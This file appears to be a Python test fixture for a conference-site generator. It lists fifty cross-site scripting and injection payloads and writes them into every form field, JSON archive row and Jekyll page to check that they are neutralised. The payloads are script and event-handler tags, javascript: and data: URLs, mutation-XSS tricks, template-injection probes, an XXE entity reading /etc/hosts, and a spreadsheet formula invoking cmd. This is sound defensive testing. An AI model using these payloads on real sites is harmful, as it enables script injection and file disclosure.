"""Fifty texts that would call ran() where a page took them for more than text, and how they get into every field."""

import json
import re
from pathlib import Path
from typing import Any

from faimi.content import KIND, KINDS, LINK_COLUMNS, PICTURE_COLUMNS
from faimi.content.base import columns_by_name
from faimi.content.cleaning import visible
from faimi.exchange.archive import OMITTED_COLUMNS
from tests.samples import SAMPLES

INJECTIONS = [
    # elements that run something
    "<script>ran()</script>",
    "<ScRiPt/src=https://elsewhere.example.org/ran.js></sCrIpT >",
    "<<script>>ran()//<</script>>",
    '<script type="module">top.ran()</script>',
    "<img src=x onerror=ran()>",
    '"><img src="/ran" onload="ran()" onerror="ran()">',
    "<body onload=ran() onpageshow=ran()>",
    "<input autofocus onfocus=ran()><select autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>&#x3c;b&#x3e;",
    "<p class=saved style='animation:settle 1ms' onanimationstart=ran() onanimationend=ran()>",
    "<video><source onerror=ran()></video><audio src=x onerror=ran()>",
    '<marquee onstart="ran()"><button popovertarget=keys onclick=ran()>Save</button>',
    # addresses
    "javascript:ran()",
    " \u00a0JaVaScRiPt:ran()//https://example.org/",
    "jav&#x09;ascript&colon;ran()",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=",
    "vbscript:ran()",
    '<a href="java\tscript:ran()" ping=/ran target=_self>here</a>',
    "https://example.org/?q='onfocus='ran()'autofocus='# \"onfocus=\"ran()\"autofocus=\"",
    # Markdown
    "[link](javascript:ran()) [other](JAVASCRIPT&#58;ran()) [third](<java&Tab;script:ran()>)",
    "![picture](javascript:ran()) ![x](https://elsewhere.example.org/ran.png)",
    "<javascript:ran()> <data:text/html,<script>ran()</script>> <ran@example.org?onfocus=ran()>",
    "[title](/ \"<hx-x onfocus=ran() autofocus x>' onfocus=ran() autofocus '><img src=x onerror=ran()>\")",
    '![" onerror=ran() x="](/ran.png) ![<img src=x onerror=ran()>](/static/icon.svg)',
    "`</code><script>ran()</script>` **<b onclick=ran()>** ~~<svg/onload=ran()>~~",
    # other grammars inside the page
    "<svg/onload=ran()><script>ran()</script><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran()'><text y=9>here</text></a><use href='data:image/svg+xml,x#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<math href=javascript:ran()><maction actiontype=statusline xlink:href=javascript:ran()>here</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
    "<template shadowrootmode=open><img src=x onerror=ran()></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    # out of where it stands
    "</title><script>ran()</script><title>",
    "</textarea></select></option></dd></dl><img src=x onerror=ran()>",
    "</script><script>ran()</script>--></style><!--><img src=x onerror=ran()>",
    "' autofocus onfocus=ran() x='` autofocus onfocus=ran() x=`",
    "]]></name><script xmlns='http://www.w3.org/1999/xhtml'>ran()</script><!ENTITY x SYSTEM 'file:///etc/hosts'>&x;",
    # what leads away, loads, or looks like a form of the page
    "<meta http-equiv=refresh content='0;url=javascript:ran()'><base href=https://elsewhere.example.org/ran/>",
    "<iframe srcdoc='<script>top.ran()</script>' src=javascript:top.ran()></iframe>",
    "<object data=javascript:ran()><embed src=data:text/html,<script>ran()</script>></object>",
    '<form action=javascript:ran()><input name="csrf_token" value="ran"><button formaction=/ran>Save</button></form>',
    "<style>@import 'https://elsewhere.example.org/ran.css';*{x:expression(ran())}</style>",
    "<link rel=stylesheet href=https://elsewhere.example.org/ran.css><div style=\"background:url('/ran')\">",
    # htmx
    "<div hx-get=/ran hx-trigger=load hx-on:htmx:before:request='ran()' hx-on::load='ran()'>here</div>",
    '<hx-partial hx-target=#body hx-swap=innerHTML><script>ran()</script></hx-partial>" hx-get="/ran" hx-trigger="load',
    'js:ran() `name="csrf_token" value="ran"`',
    # templates, spreadsheets, encodings
    "{{ ran() }}{{7*'7'}}{% raw %}${ran()}#{ran()}<%= ran() %>{{ config.items() }}",
    '=HYPERLINK("https://elsewhere.example.org/ran","here")+cmd|\' /C calc\'!A0',
    "+ADw-script+AD4-ran()+ADw-/script+AD4- \u2028ran()\u2029 %3Cscript%3Eran()%C0%BE \u02bascript\u203aran()",
    "<scr\0ipt>ran()</scr\0ipt>\ufeff<img src=x\0 onerror=ran()>\x1b[0m\x08",
]

TYPED = [visible(text).strip() for text in INJECTIONS]  # as they are kept
CHOSEN = {
    "accent",
    "appears_at",
    "crop",
    "date",
    "decorative",
    "end",
    "follow",
    "hidden",
    "keynote",
    "kind",
    "language",
    "paper",
    "start",
}
CHOSEN |= {
    "attendance",
    "day",
    "ends_on",
    "pinned",
    "shown_from",
    "shown_until",
    "starts_on",
    "state",
    "superseded",
    "time",
    "timezone",
    "zone",
}
ATTACKED = "2031-attacked"
COUNT = len(INJECTIONS)


def address(text: str, before: str = "https://example.org/?") -> str:
    """A text as the form takes it for an address: without spaces and backslashes."""
    return before + re.sub(r"[\s\\]", "", text)


def filled(name: str, text: str) -> dict[str, str]:
    """A form that is taken, with a text in every field that takes one."""
    own = dict.fromkeys(SAMPLES[name], text) | {key: SAMPLES[name][key] for key in CHOSEN if key in SAMPLES[name]}
    own |= {key: address(text, "/") for key in PICTURE_COLUMNS if key in own}
    return own | {key: address(text) for key in LINK_COLUMNS if key in own}


def _row(name: str, number: int, text: str) -> dict[str, Any]:
    """A row of an archive with a text in every column that holds one, addresses included."""
    own = {"number": number, "kind": "talk", "start": "09:00", "end": None, "crop": 50, "date": "2031-05-01"}
    own |= {"time": "23:59", "zone": "AoE", "day": 1, "delay": 5, "pinned": True}
    own |= dict.fromkeys(("shown_from", "shown_until"))
    own |= {
        "uid": None,
        "sequence": 0,
        "changed_at": None,
        "superseded": [],
        "keynote_id": None,
        "paper_id": number if name == "award" else None,
    }
    by_name = columns_by_name(KIND[name].model)
    columns = {*KIND[name].model.__table__.columns.keys(), *by_name} - {*OMITTED_COLUMNS, *by_name.values()}
    return {key: own.get(key, text) for key in columns}


def archive_of(folder: Path) -> Path:
    """Writes an edition as JSON: of each kind a row for each text, and sections that are headed by them."""
    own = {"intro": "", "hidden": False, "appears_at": None}
    lists = [(kind.name, [_row(kind.name, n, text) for n, text in enumerate(INJECTIONS, 1)]) for kind in KINDS]
    sections = [own | {"kind": name, "heading": name, "anchor": f"{name}s", "items": rows} for name, rows in lists]
    sections += [
        own | {"kind": "text", "heading": text, "intro": text, "anchor": f"headed-{n}", "items": []}
        for n, text in enumerate(INJECTIONS)
    ]
    header: dict[str, Any] = dict(zip(("title", "tagline", "venue"), INJECTIONS[32:], strict=False))
    header |= {"timezone": "Europe/Copenhagen", "accent": "moss", "state": "current", "appears_at": None}
    header["starts_on"] = "2031-05-01"
    whole = {"faimi": 1, "slug": ATTACKED, "edition": header, "addresses": [], "sections": sections, "pictures": []}
    path = folder / "attacked.json"
    path.write_text(json.dumps(whole))
    return path


def pages_of(folder: Path) -> list[Path]:
    """Writes a page of a Jekyll site for each text, which stands in all its places."""
    paths = []
    for number, text in enumerate(INJECTIONS):
        front = "".join(f"{key}: {json.dumps(text)}\n" for key in ("title", "tagline", "venue"))
        body = f"""## {text}

{text}

<div markdown="1">{text}</div>

## Keynotes

### {text}, {text}

**Title:** {text}

{text}

## Schedule

| Time | Speaker | Title |
|---|---|---|
| 9:00-9:30 | {text} | {text} |

## Accepted Papers

{text}, et al.: *{text}* [Link]({text})

## Dates

- 1 May 2031: {text}

## Organizers

- [{text}]({text}), {text}
"""
        paths.append(folder / f"attacked-{number}.md")
        paths[-1].write_text(f"---\n{front}starts_on: 2031-05-01\n---\n{body}")
    return paths
